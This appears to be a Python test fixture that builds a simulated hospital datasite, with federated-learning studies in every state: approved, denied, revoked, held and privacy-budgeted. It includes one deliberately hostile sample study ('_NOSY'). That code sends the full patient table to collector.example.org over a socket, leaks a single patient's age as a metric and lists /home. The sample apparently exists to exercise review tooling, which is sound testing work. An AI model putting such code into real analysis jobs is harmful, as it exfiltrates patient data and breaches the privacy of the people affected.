"""A hospital in the middle of its work, for looking at: studies in every state, a budget partly spent, held results."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from torch import nn

import researcher as wr
from datasites.approval.policy import PolicyBook
from datasites.catalog.registry import RegisteredTable, Registry
from datasites.catalog.tables import TableSource
from datasites.datasite import Datasite
from datasites.home import STUDY_LOG
from datasites.ledger.rows import Charge
from datasites.release.held import hold
from datasites.state import AnsweredRound, now
from datasites.wire.dictionary import Dictionary
from datasites.wire.identity import Identity
from datasites.wire.manifest import Manifest, describe_files
from datasites.wire.outputs import ArraySpec, OutputContract
from datasites.wire.reasons import Reason
from notebooks.demo.hospitals import DICTIONARY
from notebooks.readmission import synthetic
from policies.privacy import Plan, SampledGaussian
from tests.support.submissions import deliver

_CODE = DICTIONARY.parent / "study"
_DESCRIBED = Dictionary.load(DICTIONARY)
_NOSY = b'''"""Looks harmless."""

import os
import socket


def initialize(config):
    return {}


def fit(parameters, table, config):
    socket.create_connection(("collector.example.org", 443)).send(table.to_csv().encode())
    return parameters, len(table), {"age_of_patient_7": float(table["age_years"][7])}


def evaluate(parameters, table, config):
    return len(table), {"home": float(len(os.listdir("/home")))}
'''


def busy(folder: Path) -> Datasite:
    """Nothing in it is real; only its agent is missing."""
    ada = Identity.create("ada@uni.org", folder / "ada.json")
    site = Datasite.create(folder / "north", "do@north.org", f"file://{folder}/store", "North General Hospital")
    site.office.peers.update(ada.email, "accepted", ada.public.document)
    synthetic.generate(["north"], 400, 1)["north"].to_csv(folder / "table.csv", index=False)
    Registry(site.home.datasets).add(RegisteredTable(TableSource(path=folder / "table.csv"), _DESCRIBED))
    site.set_policy("readmissions", "standard")
    _studies(site, ada)
    return site


def _studies(site: Datasite, ada: Identity) -> None:
    code = {path.name: path.read_bytes() for path in sorted(_CODE.glob("*.py"))}
    first = _put(site, ada, code, purpose="Plan follow-up calls after discharge")
    site.approve(first.digest, rounds=10, reason="As agreed with the ethics board")
    for number in (1, 2, 3):
        answer = AnsweredRound(number, "a" * 64, "released", True, True, b"reply", now().isoformat(), 2.0)
        site.state.record_answer(first.digest, answer)
    lines = "".join(f"round {n}: {400 - n} rows, loss {0.31 - n / 100:.3f}\n" for n in (1, 2, 3))
    (site.home.study(first.digest) / STUDY_LOG).write_text(lines)
    _hold(site, first)
    denied = _put(site, ada, code, name="length-of-stay", purpose="Predict length of stay", rounds=60)
    site.deny(denied.digest, reason="Please ask for no more than 20 rounds, and say who pays for the calls.")
    revoked = _put(site, ada, code, name="pharmacy-costs", purpose="Estimate the costs of medication")
    site.approve(revoked.digest)
    site.revoke(revoked.digest, reason="The board withdrew its consent.")
    faster = code | {"study.py": code["study.py"].replace(b"LEARNING_RATE = 1e-3", b"LEARNING_RATE = 5e-3")}
    _put(site, ada, faster, purpose="Plan follow-up calls after discharge", rounds=20, config={"seed": 1})
    _put(site, ada, {"study.py": _NOSY}, name="weather", purpose="Correlate readmission with the weather")
    _private(site, ada)


def _put(site: Datasite, ada: Identity, code: dict[str, bytes], **changes: Any) -> Manifest:
    model = {
        "first.weight": ArraySpec(shape=(64, 42), dtype="float32"),
        "first.bias": ArraySpec(shape=(64,), dtype="float32"),
        "last.weight": ArraySpec(shape=(1, 64), dtype="float32"),
    }
    histogram = {"score_histogram": ArraySpec(shape=(2, 200), dtype="int64")}
    fields = {
        "name": "readmission-fedavg",
        "purpose": "Test",
        "researcher": ada.email,
        "dataset": "readmissions",
        "dictionary": _DESCRIBED.digest,
        "columns": tuple(_DESCRIBED.columns),
        "files": describe_files(code),
        "config": {"seed": 0, "split_seed": 0, "local_epochs": 1},
        "rounds": 12,
        "seconds_per_round": 600,
        "outputs": OutputContract(
            parameters=model, fit_metrics=("loss",), evaluate_metrics=("auc", "brier"), evaluate_arrays=histogram
        ),
    }
    asked = Manifest.model_validate({**fields, **changes})
    deliver(site, asked, ada, code)
    return asked


def _hold(site: Datasite, study: Manifest) -> None:
    why = "array 'first.weight' holds numbers that are not finite"
    hold(site.home.held, study.digest, 2, "fit", b"rows", Reason.CONTRACT, (why,), now().isoformat())
    why = "metric 'loss' stands for 7 rows, fewer than 20"
    hold(site.home.held, study.digest, 3, "fit", b"rows", Reason.COHORT, (why,), now().isoformat())


def _private(site: Datasite, ada: Identity) -> None:
    inputs = [name for name in _DESCRIBED.columns if name != "readmitted_30d"]
    asked = wr.PrivateStudy(
        "readmission-private", "Plan follow-up calls", "readmissions", nn.Linear(len(inputs), 1), inputs,
        "readmitted_30d", rounds=4, steps=10, sampling_rate=0.1, expected_lot=40.0,
        optimizer=wr.Optimizer(learning_rate=1.0), noise_multiplier=2.0, evaluation_noise=8.0,
    )  # fmt: skip
    put = asked.manifest(ada.email, _DESCRIBED, asked.contract(_DESCRIBED))
    folder = deliver(site, put, ada, {"study.py": b""})
    (folder / "code" / "study.py").unlink()
    limits = PolicyBook(site.home).get("readmissions").budget
    for number in (1, 2):
        plan = Plan(2, (SampledGaussian(4.0, 0.05, 20),))
        charge = Charge("readmissions", "e" * 64, "bob@clinic.org", number, "f" * 64, plan.per_round, plan.events)
        site.state.ledger.commit(site.state.ledger.reserve(charge, limits))
